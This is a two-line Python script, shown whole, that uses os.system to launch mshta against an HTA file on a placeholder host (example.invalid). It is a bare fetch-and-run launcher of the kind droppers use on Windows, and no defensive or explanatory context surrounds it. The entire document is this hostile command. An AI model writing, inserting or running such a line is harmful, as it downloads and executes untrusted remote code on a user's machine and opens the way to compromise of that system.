import os
os.system("mshta http://example.invalid/a.hta")
